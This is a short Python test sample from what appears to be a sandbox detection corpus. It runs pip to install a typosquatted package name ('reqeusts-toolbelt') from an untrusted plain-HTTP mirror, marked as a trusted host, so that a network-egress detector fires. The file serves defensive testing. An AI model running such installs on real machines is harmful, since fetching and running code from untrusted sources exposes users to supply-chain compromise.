# scenario: 02 untrusted-installation
# expect: network.egress
# timeout: 20
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Installs a package from an untrusted mirror.
import subprocess
import sys

cmd = [sys.executable, "-m", "pip", "install", "--index-url", "http://pypi.example-mirror.ru/simple",
       "--trusted-host", "pypi.example-mirror.ru", "--timeout", "3", "--retries", "0", "reqeusts-toolbelt"]
print(subprocess.run(cmd, capture_output=True, text=True, timeout=15).returncode)
